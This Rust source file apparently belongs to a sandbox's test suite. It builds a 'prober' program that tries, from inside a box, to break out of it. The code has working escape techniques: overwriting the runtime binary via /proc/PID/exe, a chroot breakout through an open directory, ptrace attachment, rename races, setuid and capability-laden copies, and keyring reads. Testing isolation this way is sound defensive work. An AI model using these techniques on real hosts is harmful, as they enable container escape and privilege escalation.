//! What attacks boxes from inside, many small programs in one; and the naive runner they are tried on first.
//!
//! `prober COMMAND ARGUMENT...` prints what it could do, one fact a line, and ends with 0 whether or not it could. It is
//! dynamic: the tests put its libraries into the tree with it.

#![expect(unsafe_code, reason = "attacks are system calls that no library has")]
#![expect(clippy::print_stdout, reason = "its output is what tests read")]

use std::collections::BTreeSet;
use std::ffi::{CStr, CString};
use std::fs::{self, File, OpenOptions};
use std::io::{Error, Read, Write};
use std::os::fd::{AsRawFd, RawFd};
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::os::unix::net::UnixStream;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

fn main() {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let words: Vec<&str> = arguments.iter().map(String::as_str).collect();
    match words.as_slice() {
        ["hunt", victim] => hunt(victim),
        ["naive-exec", pid, command @ ..] => naive_exec(pid, command),
        ["exe"] => println!("{}", identity(Path::new("/proc/self/exe"))),
        ["swap", first, second, seconds] => {
            swap(first, second, Duration::from_secs_f64(seconds.parse().expect("seconds")));
        }
        ["scan", paths @ ..] => paths.iter().for_each(|path| scan(Path::new(path), true)),
        ["open", how, paths @ ..] => paths.iter().for_each(|path| say(path, try_open(path, how))),
        ["escape", canary] => escape(canary),
        ["with-key", description, secret, command @ ..] => with_key(description, secret, command),
        ["read-key", serial, description] => read_key(serial, description),
        ["trace", pid] => say("trace", trace(pid.parse().expect("a number"))),
        ["signal", pid] => say("signal", result(i64::from(unsafe_kill(pid.parse().expect("a number"))))),
        ["leave-groups", file] => leave_groups(file),
        ["mount", kind] => say(&format!("mount {kind}"), mount(kind)),
        ["rights"] => rights(),
        ["talk", socket, text] => talk(socket, text),
        ["leave-set-user-id", path] => leave_set_user_id(path),
        _ => panic!("what is {words:?}?"),
    }
}

type Done = Result<(), Error>;

fn say(what: &str, done: Done) {
    match done {
        Ok(()) => println!("{what}: done"),
        Err(error) => println!("{what}: {}", name(&error)),
    }
}

fn name(error: &Error) -> String {
    format!("{:?}", nix::errno::Errno::from_raw(error.raw_os_error().unwrap_or(0)))
}

fn result(returned: i64) -> Done {
    if returned == -1 { Err(Error::last_os_error()) } else { Ok(()) }
}

fn c(text: &str) -> CString {
    CString::new(text).expect("no NUL")
}

/// Device and inode: the same file has the same inside and outside.
fn identity(path: &Path) -> String {
    fs::metadata(path).map_or_else(|error| error.to_string(), |stat| format!("{}:{}", stat.dev(), stat.ino()))
}

/// Says something to whoever listens on a socket in a file, and prints the answer.
fn talk(socket: &str, text: &str) {
    let mut answer = String::new();
    let talked = UnixStream::connect(socket).and_then(|mut stream| {
        stream.write_all(text.as_bytes())?;
        stream.read_to_string(&mut answer)
    });
    say(&format!("talk: {answer}"), talked.map(drop));
}

// ---------------------------------------------------------------- looking at processes that come in

/// Looks at each process it can see, over and over: looks for a file `canary` through its descriptors and directories; if its
/// program is the victim, attaches to it and takes hold of the program, to write it once it has ended.
///
/// Nothing but the victim, a device and inode, is ever opened for writing. Ends when there is a file `/tmp/stop`.
fn hunt(victim: &str) {
    let (start, stop) = (Instant::now(), Path::new("/tmp/stop"));
    drop(fs::remove_file(stop));
    let (mut seen, mut held, mut canary, mut traced) = (BTreeSet::new(), None, 0, 0);
    let (mut programs, mut written, mut why) = (0, 0, String::from("-"));
    println!("hunting");
    while start.elapsed() < Duration::from_secs(90) && !stop.exists() {
        for pid in pids() {
            seen.insert(pid);
            if let Some(program) = open_program(pid, victim) {
                programs += 1;
                traced += u32::from(trace(pid).is_ok());
                held = Some(program);
            }
            canary += u32::from(finds_canary(pid));
        }
        if let Some(program) = &held {
            match overwrite(program) {
                Ok(()) => (written, held) = (written + 1, None),
                Err(error) => why = name(&error),
            }
        }
    }
    println!("seen {}", seen.len());
    println!("programs {programs}");
    println!("overwritten {written} {why}");
    println!("canary {}", if canary > 0 { "read" } else { "safe" });
    println!("traced {}", if traced > 0 { "yes" } else { "no" });
}

fn pids() -> Vec<i32> {
    let own = i32::try_from(std::process::id()).expect("a process id");
    let names = fs::read_dir("/proc").expect("proc").flatten().map(|entry| entry.file_name());
    names.filter_map(|name| name.to_str()?.parse().ok()).filter(|pid| *pid != own).collect()
}

fn open_program(pid: i32, victim: &str) -> Option<File> {
    let open = OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(format!("/proc/{pid}/exe"));
    let file = open.ok()?;
    let stat = file.metadata().ok()?;
    (format!("{}:{}", stat.dev(), stat.ino()) == victim).then_some(file)
}

/// Writes the program, as the kernel lets us once nobody executes it; before, tries to take "read-only" off its mount and off a
/// clone of that.
fn overwrite(program: &File) -> Done {
    let write = |fd: RawFd| {
        let mut file = OpenOptions::new().write(true).truncate(true).open(format!("/proc/self/fd/{fd}"))?;
        file.write_all(b"overwritten\n")
    };
    // All bits of MOUNT_ATTR_RDONLY cleared.
    let attributes: [u64; 4] = [0, 1, 0, 0];
    let set = |fd: RawFd| {
        let (path, flags) = (c"".as_ptr(), libc::AT_EMPTY_PATH);
        // SAFETY: the attributes are the four numbers of struct mount_attr and outlive the call.
        unsafe { libc::syscall(libc::SYS_mount_setattr, fd, path, flags, attributes.as_ptr(), 32) }
    };
    let fd = program.as_raw_fd();
    set(fd);
    let flags = 1 | libc::O_CLOEXEC | libc::AT_EMPTY_PATH;
    // SAFETY: the path is a literal.
    let clone = unsafe { libc::syscall(libc::SYS_open_tree, fd, c"".as_ptr(), flags) };
    if let Ok(clone) = RawFd::try_from(clone)
        && clone >= 0
    {
        set(clone);
        let written = write(clone);
        // SAFETY: it is ours.
        unsafe { libc::close(clone) };
        if written.is_ok() {
            return written;
        }
    }
    write(fd)
}

fn finds_canary(pid: i32) -> bool {
    let mut places = vec![format!("/proc/{pid}/cwd"), format!("/proc/{pid}/root")];
    let numbers = fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten();
    places.extend(numbers.map(|entry| entry.path().to_string_lossy().into_owned()));
    places.iter().any(|place| {
        (0..5).any(|depth| {
            let text = fs::read_to_string(format!("{place}/{}canary", "../".repeat(depth)));
            text.is_ok_and(|text| text == "intact\n")
        })
    })
}

/// Attaches to a process, stops it, and lets it go.
fn trace(pid: i32) -> Done {
    // SAFETY: these requests take a process and two values that they ignore here.
    let request = |what| result(unsafe { libc::ptrace(what, pid, 0, 0) });
    request(libc::PTRACE_SEIZE)?;
    request(libc::PTRACE_INTERRUPT)?;
    // SAFETY: nothing is to be stored.
    result(i64::from(unsafe { libc::waitpid(pid, std::ptr::null_mut(), libc::__WALL) }))?;
    // It may have ended instead of stopped.
    drop(request(libc::PTRACE_DETACH));
    Ok(())
}

fn unsafe_kill(pid: i32) -> i32 {
    // SAFETY: takes numbers.
    unsafe { libc::kill(pid, libc::SIGTERM) }
}

/// Runs a command in the namespaces of a process, as careless as can be: it can be looked at, its descriptors stay open.
fn naive_exec(pid: &str, command: &[&str]) {
    let root = OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(format!("/proc/{pid}/root"));
    let root = root.expect("a root");
    let same = |kind: &str| {
        identity(Path::new(&format!("/proc/{pid}/ns/{kind}")))
            == identity(Path::new(&format!("/proc/self/ns/{kind}")))
    };
    for kind in ["user", "mnt", "pid"].into_iter().filter(|kind| !same(kind)).collect::<Vec<_>>() {
        let file = File::open(format!("/proc/{pid}/ns/{kind}")).expect("a namespace");
        // SAFETY: takes numbers.
        let joined = unsafe { libc::setns(file.as_raw_fd(), 0) };
        assert_eq!(joined, 0, "setns({kind}): {}", Error::last_os_error());
    }
    // SAFETY: takes a number.
    assert_eq!(unsafe { libc::fchdir(root.as_raw_fd()) }, 0, "fchdir: {}", Error::last_os_error());
    // SAFETY: the path is a literal.
    assert_eq!(unsafe { libc::chroot(c".".as_ptr()) }, 0, "chroot: {}", Error::last_os_error());
    // SAFETY: there is one thread.
    let child = unsafe { libc::fork() };
    if child == 0 {
        std::thread::sleep(Duration::from_millis(20));
        panic!("execve: {}", Command::new(command[0]).args(&command[1..]).exec());
    }
    let mut status = 0;
    // SAFETY: status outlives the call.
    unsafe { libc::waitpid(child, &raw mut status, 0) };
}

// ---------------------------------------------------------------- places

/// Exchanges two names as fast as it can.
fn swap(first: &str, second: &str, duration: Duration) {
    let start = Instant::now();
    let (first, second) = (c(first), c(second));
    println!("swapping");
    while start.elapsed() < duration {
        for _ in 0..100 {
            let at = libc::AT_FDCWD;
            // SAFETY: both paths outlive the call.
            let swapped =
                unsafe { libc::renameat2(at, first.as_ptr(), at, second.as_ptr(), libc::RENAME_EXCHANGE) };
            assert_eq!(swapped, 0, "renameat2: {}", Error::last_os_error());
        }
    }
}

/// Prints each file below a directory that can be opened for writing and is there to be written; nothing is written.
///
/// Root can open the others too, and has an error of each write.
/// Of the processes in proc only our own is looked at.
fn scan(directory: &Path, top: bool) {
    let Ok(entries) = fs::read_dir(directory) else { return };
    for entry in entries.flatten() {
        let Ok(kind) = entry.file_type() else { continue };
        let (path, name) = (entry.path(), entry.file_name());
        let is_process = top && name.to_str().is_some_and(|name| name.parse::<u32>().is_ok());
        if kind.is_dir() && !is_process {
            scan(&path, false);
        } else if kind.is_file() {
            let flags = libc::O_NONBLOCK | libc::O_NOCTTY | libc::O_NOFOLLOW;
            // What is masked is the null device.
            let open = OpenOptions::new().write(true).custom_flags(flags).open(&path);
            if open
                .and_then(|file| file.metadata())
                .is_ok_and(|stat| stat.is_file() && stat.mode() & 0o222 != 0)
            {
                println!("{}", path.display());
            }
        }
    }
}

fn try_open(path: &str, how: &str) -> Done {
    let mut options = OpenOptions::new();
    options.read(how.contains('r')).write(how.contains('w')).custom_flags(libc::O_NONBLOCK | libc::O_NOCTTY);
    let mut file = options.open(path)?;
    if how == "r" {
        let mut text = [0; 64];
        let length = file.read(&mut text)?;
        println!("{}", String::from_utf8_lossy(&text[..length]).trim_end_matches(['\0', '\n']));
    }
    Ok(())
}

/// The oldest escape there is: a directory that stays open while the root moves below it.
fn escape(canary: &str) {
    let open = OpenOptions::new().read(true).custom_flags(libc::O_DIRECTORY).open("/").expect("the root");
    fs::create_dir_all("/tmp/below").expect("mkdir");
    let calls = || -> Done {
        // SAFETY: the path is a literal.
        result(i64::from(unsafe { libc::chroot(c"/tmp/below".as_ptr()) }))?;
        // SAFETY: takes a number.
        result(i64::from(unsafe { libc::fchdir(open.as_raw_fd()) }))?;
        for _ in 0..64 {
            std::env::set_current_dir("..")?;
        }
        // SAFETY: the path is a literal.
        result(i64::from(unsafe { libc::chroot(c".".as_ptr()) }))
    };
    say("chroot", calls());
    println!("{}", fs::read_to_string(canary).unwrap_or_else(|error| error.to_string()).trim());
}

fn mount(kind: &str) -> Done {
    fs::create_dir_all("/tmp/place")?;
    let (kind, options) = kind.split_once(',').unwrap_or((kind, ""));
    let (kind, options) = (c(kind), c(options));
    let mounted = |kind: &CStr| {
        let (target, data) = (c"/tmp/place".as_ptr(), options.as_ptr().cast());
        // SAFETY: all strings outlive the call.
        unsafe { libc::mount(c"none".as_ptr(), target, kind.as_ptr(), 0, data) }
    };
    result(i64::from(mounted(&kind)))
}

// ---------------------------------------------------------------- rights

/// Who we are, by what counts.
fn rights() {
    // SAFETY: takes nothing.
    println!("user {}", unsafe { libc::geteuid() });
    let status = fs::read_to_string("/proc/self/status").expect("proc");
    let line = status.lines().find(|line| line.starts_with("CapEff")).expect("a line of each process");
    println!("{}", line.replace('\t', " "));
}

/// Writes a copy of this program that is set-user-id, and one that has capabilities.
fn leave_set_user_id(path: &str) {
    use std::os::unix::fs::PermissionsExt;
    for (name, mode) in [(path.to_owned(), 0o4755), (format!("{path}-capable"), 0o755)] {
        fs::copy("/proc/self/exe", &name).expect("copy");
        fs::set_permissions(&name, fs::Permissions::from_mode(mode)).expect("chmod");
    }
    // vfs_cap_data, version 2, effective: cap_sys_admin and cap_dac_override (linux/capability.h).
    let capable = c(&format!("{path}-capable"));
    let data: [u32; 5] = [0x0200_0001, (1 << 21) | (1 << 1), 0, 0, 0];
    // SAFETY: path and data outlive the call; the size is that of the data.
    let set = unsafe {
        libc::setxattr(capable.as_ptr(), c"security.capability".as_ptr(), data.as_ptr().cast(), 20, 0)
    };
    say("setcap", result(i64::from(set)));
}

fn leave_groups(file: &str) {
    // SAFETY: no group, so the list is not looked at.
    say("setgroups", result(i64::from(unsafe { libc::setgroups(0, std::ptr::null()) })));
    say("open", File::open(file).map(drop));
}

// ---------------------------------------------------------------- keys

const SESSION: libc::c_long = -3;

/// keyctl(2), whose arguments are numbers and addresses.
fn keyctl(operation: u32, arguments: [libc::c_long; 4]) -> libc::c_long {
    let [a, b, c, d] = arguments;
    // SAFETY: addresses among the arguments are of memory that its owners keep during the call.
    unsafe { libc::syscall(libc::SYS_keyctl, operation, a, b, c, d) }
}

fn with_key(description: &str, secret: &str, command: &[&str]) {
    assert!(keyctl(libc::KEYCTL_JOIN_SESSION_KEYRING, [0; 4]) >= 0, "keyctl: {}", Error::last_os_error());
    let (description, secret) = (c(description), c(secret));
    // SAFETY: all strings outlive the call.
    let key = unsafe {
        let (kind, length) = (c"user".as_ptr(), secret.as_bytes().len());
        libc::syscall(libc::SYS_add_key, kind, description.as_ptr(), secret.as_ptr(), length, SESSION)
    };
    assert!(key > 0, "add_key: {}", Error::last_os_error());
    let error = Command::new(command[0]).args(&command[1..]).env("KEY", key.to_string()).exec();
    panic!("execve: {error}");
}

fn read_key(serial: &str, description: &str) {
    let description = c(description);
    let (kind, name) = (c"user".as_ptr() as libc::c_long, description.as_ptr() as libc::c_long);
    let found = keyctl(libc::KEYCTL_SEARCH, [SESSION, kind, name, 0]);
    say("search", result(found));
    let mut text = [0_u8; 64];
    let buffer = text.as_mut_ptr() as libc::c_long;
    let length = keyctl(libc::KEYCTL_READ, [serial.parse().expect("a number"), buffer, 64, 0]);
    say("read", result(length));
    println!("{}", String::from_utf8_lossy(&text).trim_end_matches('\0'));
}
